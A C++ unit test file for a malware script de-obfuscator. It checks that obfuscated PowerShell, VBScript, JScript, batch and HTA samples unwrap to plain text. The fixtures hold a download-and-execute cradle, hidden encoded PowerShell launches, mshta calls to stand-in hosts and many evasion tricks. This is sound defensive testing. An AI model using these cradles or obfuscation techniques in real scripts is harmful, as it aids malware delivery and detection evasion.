// The de-obfuscator layer by layer, on small scripts written here in the shapes malware uses
// (Invoke-Obfuscation's, Emotet's, droppers' VBScript/JScript/batch), with compressed payloads
// made by zlib at test time. Real samples are in corpus_script_test.cc.
#include <zlib.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

#include "kensa/script/deobfuscator.h"
#include "script_encoder_support.h"

namespace kensa::script {
namespace {

std::string Base64(std::string_view bytes) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i + 1])) << 8) |
                   static_cast<std::uint8_t>(bytes[i + 2]);
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], kAlphabet[n & 63]};
  }
  if (i + 1 == bytes.size()) {
    const auto n = static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16;
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], '=', '='};
  } else if (i + 2 == bytes.size()) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i + 1])) << 8);
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], '='};
  }
  return out;
}

std::string Utf16Le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}

// zlib with PowerShell's framing: raw deflate (DeflateStream) or gzip (GzipStream).
std::string Compress(std::string_view text, bool gzip) {
  z_stream stream{};
  REQUIRE(deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, gzip ? 16 + 15 : -15, 8, Z_DEFAULT_STRATEGY) == Z_OK);
  std::string out(deflateBound(&stream, text.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
  stream.avail_in = static_cast<uInt>(text.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  REQUIRE(deflate(&stream, Z_FINISH) == Z_STREAM_END);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

const std::string kCradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')";

bool HasLayer(const Deobfuscation& d, std::string_view kind) {
  return std::any_of(d.layers.begin(), d.layers.end(), [&](const Layer& l) { return l.kind == kind; });
}

TEST_CASE("An -EncodedCommand in a command line decodes to a PowerShell text of its own") {
  const std::string line = "powershell.exe -NoP -sta -NonI -W Hidden -Enc " + Base64(Utf16Le(kCradle));
  const auto d = Deobfuscate(line, Language::kCommandLine);
  REQUIRE(d.texts.size() == 2);
  CHECK(d.texts[1].language == Language::kPowerShell);
  CHECK(d.texts[1].origin == "encoded_command");
  CHECK(d.texts[1].parent == 0);
  CHECK(d.texts[1].text == kCradle);
  CHECK(d.limit_reached.empty());
  // Every prefix PowerShell accepts: -e, -ec, -enco...
  CHECK(Deobfuscate("pwsh -e " + Base64(Utf16Le(kCradle)), Language::kCommandLine).texts.size() == 2);
  CHECK(Deobfuscate("pwsh /ec " + Base64(Utf16Le(kCradle)), Language::kCommandLine).texts.size() == 2);
  // -ep is -ExecutionPolicy, not -EncodedCommand.
  CHECK(Deobfuscate("powershell -ep " + Base64(Utf16Le(kCradle)), Language::kCommandLine).texts.size() == 1);
}

TEST_CASE("PowerShell concatenation, [char] codes, -f, -replace and -join fold into the literal they make") {
  const std::string script =
      "$u = ('ht'+'tp://'+[char]50+[char]48+[char]51+'.0.113.5/'+(\"{1}{0}\" -f 'ps1','p.'))\n"
      "$c = ('Net.WebXXent' -replace 'XX','Cli')\n"
      "$m = -join ('Down','load','String')\n";
  const auto d = Deobfuscate(script, Language::kPowerShell);
  const std::string& text = d.texts[0].text;
  CHECK(text.find("$u = 'http://203.0.113.5/p.ps1'") != std::string::npos);
  CHECK(text.find("$c = 'Net.WebClient'") != std::string::npos);
  CHECK(text.find("$m = 'DownloadString'") != std::string::npos);
  CHECK(HasLayer(d, "concatenation"));
  CHECK(HasLayer(d, "char_codes"));
  CHECK(HasLayer(d, "format_operator"));
  CHECK(HasLayer(d, "replace"));
  CHECK(HasLayer(d, "join"));
}

TEST_CASE("Operator precedence decides what folds: 'a' + 'b' * 2 is left alone") {
  const std::string script = "$z = Get-Date; $x = 'a' + 'b' * 2; $y = $z + 'c' + 'd'";
  const auto d = Deobfuscate(script, Language::kPowerShell);
  CHECK(d.texts[0].text == script);
}

TEST_CASE("Invoke-Expression of a literal is unwrapped, whatever spells iex") {
  for (const std::string wrapper : {"iex ('<code>')", "Invoke-Expression '<code>'", "'<code>' | IEX",
                                    "& ('i'+'ex') ('<code>')", ". ($env:ComSpec[4,15,25]-join'') ('<code>')",
                                    "&($PSHome[4]+$PSHome[30]+'x') ('<code>')",
                                    ".($ShellId[1]+$ShellId[13]+'x') ('<code>')",
                                    ". ( ([string]$VerbosePreference)[1,3]+'x'-join'') ('<code>')",
                                    ".((GV '*mdr*').Name[3,11,2]-Join'') ('<code>')",
                                    "[ScriptBlock]::Create('<code>')"}) {
    std::string script = wrapper;
    script.replace(script.find("<code>"), 6, "Write-Host 42");
    INFO(script);
    const auto d = Deobfuscate(script, Language::kPowerShell);
    CHECK(d.texts[0].text == "Write-Host 42");
    CHECK(HasLayer(d, "invoke_expression"));
  }
}

TEST_CASE("FromBase64String decoded by Unicode.GetString becomes the code it spells") {
  const std::string script = "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
                             Base64(Utf16Le(kCradle)) + "')))";
  const auto d = Deobfuscate(script, Language::kPowerShell);
  CHECK(d.texts[0].text == kCradle);
  CHECK(HasLayer(d, "base64"));
}

TEST_CASE("DeflateStream and GZipStream payloads are inflated into texts of their own") {
  for (const bool gzip : {false, true}) {
    const std::string stream = gzip ? "IO.Compression.GzipStream" : "IO.Compression.DeflateStream";
    const std::string script = "IEX (New-Object IO.StreamReader(New-Object " + stream +
                               "([IO.MemoryStream][Convert]::FromBase64String('" + Base64(Compress(kCradle, gzip)) +
                               "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
    const auto d = Deobfuscate(script, Language::kPowerShell);
    REQUIRE(d.texts.size() == 2);
    CHECK(d.texts[1].origin == (gzip ? "gzip" : "deflate"));
    CHECK(d.texts[1].text == kCradle);
  }
}

TEST_CASE("Numbers through a ForEach-Object body become characters: -bxor and base-2 Convert") {
  std::string xored;
  std::string binary;
  for (char c : std::string("IEX 'x'")) {
    xored += std::to_string(c ^ 0x0c) + ",";
    std::string bits;
    for (int v = static_cast<unsigned char>(c); v > 0; v /= 2) bits.insert(bits.begin(), static_cast<char>('0' + v % 2));
    binary += bits + ",";
  }
  xored.pop_back();
  binary.pop_back();
  const auto d1 = Deobfuscate("((" + xored + ") | foreach {[char]($_ -bxor \"0x0c\")}) -join ''", Language::kPowerShell);
  CHECK(d1.texts[0].text == "'IEX ''x'''");
  const auto d2 = Deobfuscate("-join ((" + binary + ") | % { ([Convert]::ToInt16(($_.ToString()),2) -as [char]) })",
                              Language::kPowerShell);
  CHECK(d2.texts[0].text == "'IEX ''x'''");
}

TEST_CASE("Reversed strings come back: [regex]::Matches RightToLeft and negative ranges") {
  const auto d = Deobfuscate("$a = -join [regex]::Matches('tneilCbeW.teN','.','RightToLeft'); $b = 'exe.dmc'[-1..-7] -join ''",
                             Language::kPowerShell);
  CHECK(d.texts[0].text == "$a = 'Net.WebClient'; $b = 'cmd.exe'");
  CHECK(HasLayer(d, "reverse"));
}

TEST_CASE("Backticks and variables: constants propagate, an unassigned variable is empty") {
  const auto d = Deobfuscate("$w = 'Net.Web'; $x = New-Ob`je`ct ($w+'Client'); 'htt000p://a.example/x'.replace('000', $undefined)",
                             Language::kPowerShell);
  CHECK(d.texts[0].text == "$w = 'Net.Web'; $x = New-Object ('Net.WebClient'); 'http://a.example/x'");
  CHECK(HasLayer(d, "escapes"));
  CHECK(HasLayer(d, "variables"));
}

TEST_CASE("A base64 executable in a literal is a blob for the pipeline") {
  std::string pe = "MZ";
  pe.append(300, '\x90');
  const auto d = Deobfuscate("$bytes = [Convert]::FromBase64String('" + Base64(pe) + "')", Language::kPowerShell);
  REQUIRE(d.blobs.size() == 1);
  CHECK(d.blobs[0].kind == "base64");
  CHECK(std::string(d.blobs[0].data.begin(), d.blobs[0].data.end()) == pe);
}

TEST_CASE("VBScript: Chr, &, StrReverse, Replace and Execute fold; the -enc inside the string decodes") {
  const std::string b64 = Base64(Utf16Le(kCradle));
  const std::string half = b64.substr(0, b64.size() / 2);
  std::string reversed_rest(b64.rbegin(), b64.rend() - static_cast<std::ptrdiff_t>(half.size()));
  const std::string script = "Set o = CreateObject(Replace(\"WXXScript.Shell\", \"XX\", \"\"))\r\n"
                             "c = \"powe\" & \"rshell -w hidden -e\" & Chr(110) & ChrW(&H63) & \" \" & \"" + half +
                             "\" & StrReverse(\"" + reversed_rest + "\")\r\n"
                             "o.Run c, 0\r\n"
                             "Execute(\"Msg\" & \"Box \"\"done\"\"\")\r\n";
  const auto d = Deobfuscate(script, Language::kVbScript);
  CHECK(d.texts[0].text.find("CreateObject(\"WScript.Shell\")") != std::string::npos);
  CHECK(d.texts[0].text.find("o.Run \"powershell -w hidden -enc " + b64 + "\", 0") != std::string::npos);
  CHECK(d.texts[0].text.find("MsgBox \"done\"") != std::string::npos);
  REQUIRE(d.texts.size() == 2);
  CHECK(d.texts[1].text == kCradle);
  CHECK(HasLayer(d, "reverse"));
  CHECK(HasLayer(d, "eval"));
}

TEST_CASE("A VBE decodes in place, and a JSE turns out to be JScript") {
  const std::string vbs = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\", 0\r\n";
  const auto vbe = Deobfuscate(testing::EncodeScript(vbs), Language::kVbScript);
  CHECK(vbe.texts[0].text == vbs);
  CHECK(vbe.texts[0].language == Language::kVbScript);
  CHECK(HasLayer(vbe, "script_encoder"));
  const std::string js = "var s = new ActiveXObject(\"WScript.Shell\");\r\nfunction f() { s.Run(\"calc\"); }\r\nf();\r\n";
  const auto jse = Deobfuscate(testing::EncodeScript(js), Language::kVbScript);
  CHECK(jse.texts[0].text == js);
  CHECK(jse.texts[0].language == Language::kJScript);
}

TEST_CASE("JScript: fromCharCode, unescape, split-reverse-join, replace and eval fold") {
  const std::string script =
      "var u = String.fromCharCode(104,116,116,112) + '://ex' + unescape('%61mple%2Ecom') + '/p.exe';\n"
      "var p = 'exe.dmc'.split('').reverse().join('');\n"
      "var q = 'powXXshell'.replace('XX', 'er');\n"
      "eval('var w = new Acti' + 'veXObject(\"WScript.Shell\")');\n";
  const auto d = Deobfuscate(script, Language::kJScript);
  const std::string& text = d.texts[0].text;
  CHECK(text.find("var u = \"http://example.com/p.exe\";") != std::string::npos);
  CHECK(text.find("var p = \"cmd.exe\";") != std::string::npos);
  CHECK(text.find("var q = \"powershell\";") != std::string::npos);
  CHECK(text.find("var w = new ActiveXObject(\"WScript.Shell\")") != std::string::npos);
  CHECK(HasLayer(d, "url_unescape"));
  CHECK(HasLayer(d, "eval"));
}

TEST_CASE("Batch: carets, set variables and %var:~x,y% substrings expand; the PowerShell inside decodes") {
  const std::string script =
      "@echo off\r\n"
      "set a=pow\r\n"
      "set \"b=ershell\"\r\n"
      "c^m^d /c %a%%b% -nop -w hidden -c \"" + kCradle + "\"\r\n"
      "%comspec:~-16,1%%comspec:~-1% %PUBLIC:~0,1%\r\n";
  const auto d = Deobfuscate(script, Language::kBatch);
  CHECK(d.texts[0].text.find("cmd /c powershell -nop -w hidden -c") != std::string::npos);
  CHECK(d.texts[0].text.find("\r\nse C\r\n") != std::string::npos);
  REQUIRE(d.texts.size() == 2);
  CHECK(d.texts[1].origin == "embedded_command");
  CHECK(d.texts[1].text == kCradle);
  CHECK(HasLayer(d, "caret_escapes"));
  CHECK(HasLayer(d, "batch_variables"));
}

TEST_CASE("mshta vbscript: code on a command line is VBScript") {
  const auto d = Deobfuscate(
      "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\", 0:close\")",
      Language::kCommandLine);
  REQUIRE(d.texts.size() == 2);
  CHECK(d.texts[1].language == Language::kVbScript);
  CHECK(d.texts[1].text == "CreateObject(\"WScript.Shell\").Run \"calc\", 0:close");
}

TEST_CASE("HTA: each script block is a text; markup written by document.write is read too") {
  const std::string hta =
      "<html><head><HTA:APPLICATION ID=\"x\"></head>\n"
      "<script language=\"VBScript\">\nSet s = CreateObject(\"Wscript.Shell\")\ns.Run \"mshta http://198.51.100.9/\" & \"n.hta\", 0\n</script>\n"
      "<script type=\"text/javascript\">\ndocument.write(unescape('%3Cscript%3Evar%20u%3D%27http%3A//evil.example.net/z%27%3C/script%3E'));\n</script></html>";
  const auto d = Deobfuscate(hta, Language::kHtml);
  REQUIRE(d.texts.size() == 4);
  CHECK(d.texts[1].language == Language::kVbScript);
  CHECK(d.texts[1].text.find("s.Run \"mshta http://198.51.100.9/n.hta\", 0") != std::string::npos);
  CHECK(d.texts[2].language == Language::kJScript);
  CHECK(d.texts[3].text == "var u='http://evil.example.net/z'");
  CHECK(d.texts[3].parent == 2);
}

TEST_CASE("Limits: nesting deeper than the rounds allow stops with a reason, never a hang") {
  // Each level doubles the quotes inside it: 12 levels stay small, and take 12 rounds.
  std::string code = "Write-Host deep";
  for (int i = 0; i < 12; ++i) {
    std::string quoted;
    for (char c : code) {
      quoted.push_back(c);
      if (c == '\'') quoted.push_back('\'');
    }
    code = "iex '" + quoted + "'";
  }
  DeobfuscationLimits limits;
  limits.max_rounds = 4;
  const auto d = Deobfuscate(code, Language::kPowerShell, limits);
  CHECK(d.limit_reached == "max_rounds");
  CHECK(d.texts[0].text.starts_with("iex '"));
}

TEST_CASE("Limits: constants that would multiply the text stop at max_text_bytes") {
  std::string script = "$a = '" + std::string(100000, 'A') + "'\n";
  for (int i = 0; i < 100; ++i) script += "Write-Host $a\n";
  DeobfuscationLimits limits;
  limits.max_text_bytes = 1u << 20;
  const auto d = Deobfuscate(script, Language::kPowerShell, limits);
  CHECK(d.texts[0].text.size() <= limits.max_text_bytes);
}

TEST_CASE("Limits: the deadline ends de-obfuscation") {
  DeobfuscationLimits limits;
  limits.deadline = std::chrono::milliseconds(0);
  const auto d = Deobfuscate("iex ('a'+'b')", Language::kPowerShell, limits);
  CHECK(d.limit_reached == "deadline");
}

TEST_CASE("DecodeScriptBytes reads UTF-16LE with and without BOM, UTF-8 and Shift_JIS") {
  const std::string utf16 = "\xFF\xFE" + Utf16Le("iex 1");
  CHECK(DecodeScriptBytes(ByteSpan(reinterpret_cast<const std::uint8_t*>(utf16.data()), utf16.size()), 1024) == "iex 1");
  const std::string bare = Utf16Le("Write-Host 'no byte order mark here'");
  CHECK(DecodeScriptBytes(ByteSpan(reinterpret_cast<const std::uint8_t*>(bare.data()), bare.size()), 1024) ==
        "Write-Host 'no byte order mark here'");
  const std::string sjis = "echo \x90\xBF\x8B\x81\x8F\x91";  // 請求書
  CHECK(DecodeScriptBytes(ByteSpan(reinterpret_cast<const std::uint8_t*>(sjis.data()), sjis.size()), 1024) ==
        "echo 請求書");
  const std::string utf8 = "\xEF\xBB\xBF" "echo 請求書";
  CHECK(DecodeScriptBytes(ByteSpan(reinterpret_cast<const std::uint8_t*>(utf8.data()), utf8.size()), 1024) ==
        "echo 請求書");
}

}  // namespace
}  // namespace kensa::script
